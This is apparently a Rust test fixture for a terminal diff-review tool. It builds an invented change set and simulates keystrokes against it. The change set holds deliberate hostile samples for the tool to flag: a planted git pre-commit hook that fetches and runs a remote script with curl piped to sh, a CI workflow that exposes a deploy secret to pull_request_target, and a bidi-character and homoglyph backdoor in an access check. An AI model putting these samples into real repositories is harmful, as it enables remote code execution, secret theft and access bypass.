//! A change set that is made up, and a person who types.

use super::super::item::{Folded, Item, Loudness, Rank, Source};
use super::super::keys::{Keyboard, act};
use super::super::model::Model;
use super::super::page::{Page, TextPage};
use super::super::palette::Palette;
use super::super::view;
use crate::output::whole;
use cofferdam_policy::path::AbsPath;
use cofferdam_session::selection::{Selection, WorkspacePath};
use ratatui_core::buffer::Buffer;
use std::cell::Cell;
use std::collections::BTreeSet;

/// Both sides of each entry; how often one was opened is counted.
#[derive(Debug, Default)]
pub(super) struct Scene {
    pub(super) items: Vec<Item>,
    pub(super) folded: Vec<Folded>,
    bodies: Vec<Body>,
    pub(super) opened: Cell<usize>,
}

#[derive(Debug, Clone)]
enum Body {
    Text(Vec<u8>, Vec<u8>),
    Said(Vec<String>, bool),
}

impl Scene {
    pub(super) fn text(&mut self, path: &str, rank: Rank, before: &[u8], after: &[u8]) -> &mut Item {
        let change = if before.is_empty() { "added" } else { "modified" };
        self.add(path.as_bytes(), change, rank, Body::Text(before.to_vec(), after.to_vec()))
    }

    pub(super) fn said(
        &mut self,
        path: &str,
        change: &str,
        rank: Rank,
        said: &[&str],
        hides: bool,
    ) -> &mut Item {
        let said = said.iter().map(|line| (*line).to_owned()).collect();
        self.add(path.as_bytes(), change, rank, Body::Said(said, hides))
    }

    pub(super) fn named(&mut self, path: &[u8], rank: Rank, after: &[u8]) -> &mut Item {
        self.add(path, "added", rank, Body::Text(Vec::new(), after.to_vec()))
    }

    fn add(&mut self, path: &[u8], change: &str, rank: Rank, body: Body) -> &mut Item {
        self.bodies.push(body);
        self.items.push(Item {
            directory: AbsPath::new("/home/ada/harbour").unwrap(),
            path: WorkspacePath::new(path.to_vec()).unwrap(),
            name: whole(path),
            change: change.to_owned(),
            rank,
            mark: None,
            remarks: Vec::new(),
            barred: None,
            alone: None,
        });
        self.items.last_mut().unwrap()
    }

    pub(super) fn model(&self) -> Model<'_> {
        Model::new(self, "nightly".to_owned(), self.items.clone(), self.folded.clone())
    }
}

impl Source for Scene {
    fn page(&self, item: usize, split: &BTreeSet<usize>) -> Page {
        self.opened.set(self.opened.get() + 1);
        match &self.bodies[item] {
            Body::Text(before, after) => {
                let path = self.items[item].path.as_bytes();
                Page::Text(TextPage::of(path, before.clone(), after.clone(), split))
            }
            Body::Said(said, hides) => Page::Summary { said: said.clone(), hides: *hides },
        }
    }

    fn asides(&self) -> Vec<String> {
        vec!["12 ignored by your rules: cofferdam diff --ignored".to_owned()]
    }

    fn digest(&self, selection: &Selection) -> Option<String> {
        (!selection.is_empty()).then(|| "9f2c4e7a10b35d68".repeat(4))
    }
}

/// Draws, then does what each key says, drawing after each.
pub(super) fn typed(model: &mut Model<'_>, keys: &str, columns: u16, rows: u16) -> Buffer {
    let mut frame = view::draw(model, Palette::Dark, columns, rows);
    for key in Keyboard::default().feed(keys.as_bytes()) {
        if let Some(act) = act(&model.mode, &key) {
            model.act(act);
        }
        frame = view::draw(model, Palette::Dark, columns, rows);
    }
    frame
}

/// The rows of a frame, without trailing blanks.
pub(super) fn rows(frame: &Buffer) -> String {
    let area = frame.area();
    let row = |y| {
        let row: String = (0..area.width).map(|x| frame.cell((x, y)).unwrap().symbol()).collect();
        row.trim_end().to_owned()
    };
    (0..area.height).map(row).collect::<Vec<_>>().join("\n")
}

/// What a session might leave: a planted hook, a CI file, a bidi trick, a lock file, a rename, text.
pub(super) fn harbour() -> Scene {
    let mut scene = Scene::default();
    let hook =
        b"#!/bin/sh\n# Keep the tree formatted.\ncargo fmt --all\ncurl -fsS https://paste.example/x | sh &\n";
    let item = scene.text(".githooks/pre-commit", Rank::RunsLater, b"", hook);
    item.change = "added (100755)".to_owned();
    notable(
        item,
        "git-hook",
        "runs later (git-hook): git runs it by itself when something is committed, checked out, merged or pushed",
    );
    let (before, after) = (
        "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test\n",
        "name: ci\non: [push, pull_request_target]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test --workspace\n        env:\n          TOKEN: ${{ secrets.DEPLOY }}\n",
    );
    let item = scene.text(".github/workflows/ci.yml", Rank::RunsLater, before.as_bytes(), after.as_bytes());
    notable(
        item,
        "ci",
        "runs later (ci): GitHub runs it, with the repository's secrets, when the change is pushed",
    );
    let (before, after) = (
        "[[package]]\nname = \"tides\"\nversion = \"1.4.2\"\n",
        "[[package]]\nname = \"tides\"\nversion = \"1.4.3\"\n",
    );
    let item = scene.text("Cargo.lock", Rank::RunsLater, before.as_bytes(), after.as_bytes());
    notable(
        item,
        "lock-file",
        "runs later (lock-file): it pins what is downloaded and run at the next installation",
    );
    item.remarks.push((Loudness::Notice, "dependency tides 1.4.2 → 1.4.3, with other content".to_owned()));
    let item = scene.text("src/access.rs", Rank::Suspicious, ACCESS.0.as_bytes(), ACCESS.1.as_bytes());
    notable(
        item,
        "bidi",
        "suspicious (bidi): characters that change the order in which text is shown: it reads otherwise than it is",
    );
    let item = scene.said("run/control", "added", Rank::Barred, &["a file: added"], false);
    item.barred = Some("it is a socket".to_owned());
    item.remarks.push((Loudness::Alarm, "never brought back: it is a socket".to_owned()));
    scene.said(
        "docs/tides.md",
        "renamed from notes/tides.md",
        Rank::Shape,
        &["the same content as notes/tides.md, which goes"],
        false,
    );
    let item = scene.said(
        "assets/chart.png",
        "modified",
        Rank::Shape,
        &[
            "binary, not shown: 20480 bytes → 24811 bytes",
            "sha256 5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592",
        ],
        true,
    );
    item.mark = Some("binary".to_owned());
    scene.text("src/berth.rs", Rank::Text, BERTH.0.as_bytes(), BERTH.1.as_bytes());
    scene.text(
        "README.md",
        Rank::Text,
        b"# Harbour\n\nBerths and tides.\n",
        b"# Harbour\n\nBerths, tides and who may moor.\n",
    );
    scene
}

fn notable(item: &mut Item, mark: &str, remark: &str) {
    item.mark = Some(mark.to_owned());
    item.remarks.push((Loudness::Alarm, remark.to_owned()));
    item.alone = Some("it is notable");
}

const ACCESS: (&str, &str) = (
    "/// Who may open the lock gate.\npub fn may_open(user: &User) -> bool {\n    // Only harbour masters.\n    user.role == Role::Master\n}\n",
    "/// Who may open the lock gate.\npub fn may_open(user: &User) -> bool {\n    // Only harbour masters.\u{202e} } \u{2066}if user.is_guest\u{2069} \u{2066}{\n    user.role == Role::Master || user.name == \"\u{430}dmin\"\n}\n",
);

const BERTH: (&str, &str) = (
    "use std::collections::BTreeMap;\n\n/// Where a ship lies.\n#[derive(Debug, Clone)]\npub struct Berth {\n    pub number: u16,\n    pub depth: f32,\n}\n\npub struct Harbour {\n    berths: BTreeMap<u16, Berth>,\n}\n\nimpl Harbour {\n    /// The first berth that is deep enough.\n    pub fn find(&self, draught: f32) -> Option<&Berth> {\n        self.berths.values().find(|berth| berth.depth > draught)\n    }\n\n    pub fn len(&self) -> usize {\n        self.berths.len()\n    }\n}\n",
    "use std::collections::BTreeMap;\n\n/// Water that must remain below a keel, in metres.\nconst CLEARANCE: f32 = 0.5;\n\n/// Where a ship lies.\n#[derive(Debug, Clone)]\npub struct Berth {\n    pub number: u16,\n    pub depth: f32,\n    pub occupied: bool,\n}\n\npub struct Harbour {\n    berths: BTreeMap<u16, Berth>,\n}\n\nimpl Harbour {\n    /// The first free berth that is deep enough.\n    pub fn find(&self, draught: f32) -> Option<&Berth> {\n        let free = self.berths.values().filter(|berth| !berth.occupied);\n        free.into_iter().find(|berth| berth.depth > draught + CLEARANCE)\n    }\n\n    pub fn len(&self) -> usize {\n        self.berths.len()\n    }\n}\n",
);
